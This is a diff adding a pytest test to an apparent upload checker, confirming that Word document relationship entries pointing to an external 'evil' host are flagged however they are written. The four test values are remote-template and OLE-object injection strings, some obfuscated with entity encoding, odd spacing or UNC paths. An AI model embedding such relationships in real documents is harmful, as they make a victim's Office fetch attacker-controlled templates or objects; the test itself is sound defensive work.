@@ -86,6 +86,20 @@ def test_what_is_hostile_or_broken_is_refused_with_a_remedy(data, said):
     assert said in message_of(data)
 
 
+@pytest.mark.parametrize(
+    "relation",
+    [
+        "<Relationship TargetMode='External' Type='http://x/attachedTemplate' Target='http://evil/x.dotm'/>",
+        '<Relationship Target="&#104;ttp://evil" Type="http://x/oleObject" TargetMode="External" Id="r>1"/>',
+        '<p:Relationship xmlns:p="x" Type="x/frame" Target=" file://evil/x" TargetMode="External"/>',
+        "<Relationship Type='x/attachedTemplate' Target='\\\\evil\\x.dotm' TargetMode='External'/>",
+    ],
+)
+def test_an_address_elsewhere_is_found_however_it_is_written(relation):
+    data = with_part(docx("x"), "word/_rels/settings.xml.rels", f"<Relationships>{relation}</Relationships>")
+    assert "别处取" in message_of(data, "x.docx")
+
+
 def test_a_template_of_the_persons_own_disk_is_harmless():
     data = with_part(docx("x"), "word/_rels/settings.xml.rels", LINK.format("file:///C:\\模板.dotx"))
     assert check_upload(data, "x.docx").kind.key == "docx"
